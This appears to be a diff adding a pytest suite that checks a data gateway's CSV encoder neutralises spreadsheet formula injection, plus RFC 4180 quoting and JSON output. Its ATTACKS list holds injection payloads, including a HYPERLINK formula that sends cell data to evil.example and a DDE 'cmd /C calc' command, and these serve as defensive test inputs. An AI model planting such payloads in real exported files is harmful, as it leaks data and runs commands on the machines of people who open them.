@@ -1,0 +1,166 @@
+"""Result encoders: CSV formula neutralisation (text cells only), RFC 4180 quoting,
+columns by position; and the same through POST /v1/query with format=csv."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date, datetime
+from decimal import Decimal
+from typing import TYPE_CHECKING, Any
+
+import pyarrow as pa
+import pytest
+
+from gateway.result_formats import encode_csv, encode_json, is_text_type, neutralise_formula
+from tests.factories import ENERGY_CSV, make_caller, make_dataset, wait_job
+
+if TYPE_CHECKING:
+    from fastapi.testclient import TestClient
+
+    from gateway.services import Platform
+
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\0=1+1",
+    " =1+1",
+    "\u3000=1+1",
+    "\n@SUM(A1)",
+]
+
+
+def csv_rows(table: pa.Table, batch_size: int | None = None) -> list[list[str]]:
+    batches = table.to_batches(max_chunksize=batch_size)
+    text = b"".join(encode_csv(table.schema, batches)).decode()
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_csv_text_cell_that_starts_a_formula_gets_a_quote_prefix(attack: str) -> None:
+    rows = csv_rows(pa.table({"note": [attack]}))
+    assert rows == [["note"], ["'" + attack]]
+
+
+@pytest.mark.parametrize(
+    "value", ["a=b", "1+1", "email@example.com", "12.5", "HK$ -3", "備註：=見附件", ""]
+)
+def test_csv_text_cell_without_a_leading_trigger_is_unchanged(value: str) -> None:
+    assert csv_rows(pa.table({"note": [value]}))[1] == [value]
+
+
+def test_csv_numbers_booleans_and_dates_are_never_prefixed() -> None:
+    table = pa.table(
+        {
+            "kwh": pa.array([-12.5, 3.0], pa.float64()),
+            "f32": pa.array([-12.5, 0.25], pa.float32()),
+            "delta": pa.array([-3, 4], pa.int64()),
+            "amount": pa.array([Decimal("-12.50"), Decimal("7.00")], pa.decimal128(6, 2)),
+            "ok": pa.array([True, False]),
+            "day": pa.array([date(2025, 7, 11), None]),
+            "ts": pa.array([datetime(2025, 7, 11, 8, 15), None], pa.timestamp("s")),
+        }
+    )
+    assert csv_rows(table)[1:] == [
+        ["-12.5", "-12.5", "-3", "-12.50", "True", "2025-07-11", "2025-07-11T08:15:00"],
+        ["3.0", "0.25", "4", "7.00", "False", "", ""],
+    ]
+
+
+def test_csv_text_that_looks_like_a_number_is_still_text() -> None:
+    """A string column is neutralised even when the value reads as a negative number: the
+    type, not the content, decides (a spreadsheet would evaluate -1+1 in a text cell)."""
+    rows = csv_rows(pa.table({"code": ["-12.5", "-1+1"], "n": [-12.5, -1.0]}))
+    assert rows[1:] == [["'-12.5", "-12.5"], ["'-1+1", "-1.0"]]
+
+
+@pytest.mark.parametrize(
+    "array",
+    [
+        pa.array(["=1+1", "ok"], pa.large_string()),
+        pa.array(["=1+1", "ok"], pa.string_view()),
+        pa.array(["=1+1", "ok"]).dictionary_encode(),
+    ],
+    ids=["large_string", "string_view", "dictionary"],
+)
+def test_csv_every_string_type_is_neutralised(array: pa.Array) -> None:
+    assert csv_rows(pa.table({"s": array}))[1:] == [["'=1+1"], ["ok"]]
+
+
+def test_csv_header_names_are_neutralised() -> None:
+    rows = csv_rows(pa.table({'=HYPERLINK("x")': ["a"], "-kwh": [1.5]}))
+    assert rows[0] == ['\'=HYPERLINK("x")', "'-kwh"]
+
+
+def test_csv_quotes_per_rfc_4180_and_keeps_nulls_empty() -> None:
+    table = pa.table({"s": ["a,b", 'say "hi"', "two\nlines", None, "=a,b"]})
+    text = b"".join(encode_csv(table.schema, table.to_batches())).decode()
+    assert text.split("\r\n")[1:3] == ['"a,b"', '"say ""hi"""']
+    assert [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:] == [
+        "a,b",
+        'say "hi"',
+        "two\nlines",
+        "",
+        "'=a,b",
+    ]
+
+
+def test_csv_keeps_duplicate_column_names_apart() -> None:
+    table = pa.Table.from_arrays([pa.array(["=x"]), pa.array([-2.5])], names=["x", "x"])
+    assert csv_rows(table) == [["x", "x"], ["'=x", "-2.5"]]
+
+
+def test_json_keeps_duplicate_column_names_apart() -> None:
+    table = pa.Table.from_arrays([pa.array(["a"]), pa.array([-2.5])], names=["x", "x"])
+    body = b"".join(encode_json(table.schema, table.to_batches(), lambda: {"row_count": 1}))
+    assert json.loads(body)["rows"] == [["a", -2.5]]
+
+
+def test_csv_streams_every_batch() -> None:
+    table = pa.table({"s": [f"-{i}" for i in range(10)], "n": [-i for i in range(10)]})
+    rows = csv_rows(table, batch_size=3)
+    assert rows[1:] == [[f"'-{i}", str(-i)] for i in range(10)]
+
+
+def test_csv_text_type_classification() -> None:
+    assert is_text_type(pa.string()) and is_text_type(pa.binary())
+    assert is_text_type(pa.list_(pa.string()))
+    assert not is_text_type(pa.dictionary(pa.int32(), pa.int64()))
+    assert not is_text_type(pa.duration("s"))
+    assert neutralise_formula("'=already") == "'=already"  # a leading quote is no trigger
+
+
+def test_query_csv_over_http_neutralises_text_and_keeps_numbers(
+    client: TestClient, platform: Platform
+) -> None:
+    provider = make_caller(platform, client)
+    dataset = make_dataset(client, provider)
+    upload = client.post(
+        f"/v1/datasets/{dataset['id']}/uploads",
+        headers=provider.headers,
+        content=ENERGY_CSV,
+        params={"filename": "meters.csv"},
+    )
+    assert wait_job(client, provider, upload.json()["id"])["status"] == "succeeded"
+    sql = (
+        "SELECT '=HYPERLINK(''http://evil.example'')' AS link, '-' || meter_id AS code, "
+        f"-kwh AS neg_kwh FROM {dataset['sql_name']} ORDER BY meter_id"
+    )
+    response = client.post(
+        "/v1/query", headers=provider.headers, json={"sql": sql, "format": "csv"}
+    )
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("text/csv")
+    rows: list[Any] = list(csv.reader(io.StringIO(response.text, newline="")))
+    assert rows[0] == ["link", "code", "neg_kwh"]
+    assert rows[1:] == [
+        ["'=HYPERLINK('http://evil.example')", "'-DG-P2-MCC-07", "-12.5"],
+        ["'=HYPERLINK('http://evil.example')", "'-DG-P2-MCC-08", "-7.25"],
+        ["'=HYPERLINK('http://evil.example')", "'-DG-P2-MCC-09", "-0.0"],
+    ]
